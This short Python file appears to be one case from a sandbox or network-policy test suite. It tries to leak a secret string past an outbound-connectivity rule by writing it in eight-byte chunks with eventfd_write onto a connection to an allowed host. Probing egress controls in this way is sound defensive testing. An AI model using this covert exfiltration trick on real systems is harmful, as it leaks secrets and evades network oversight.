# class: network
# rule: outbound_connectivity
# policy: shared.yaml
# success: eventfd_write puts bytes that are not TLS, eight at a time, on a connection to an allowed
#   name
# proof: word
# needs: resolver python>=3.10
import os
import sys

from attack import SECRET, at_allowed, attempt


def say(out):
    text = SECRET.encode() + b" " * (-len(SECRET) % 8)
    for at in range(0, len(text), 8):
        os.eventfd_write(out.fileno(), int.from_bytes(text[at : at + 8], sys.byteorder))


@attempt
def send():
    return at_allowed(say)
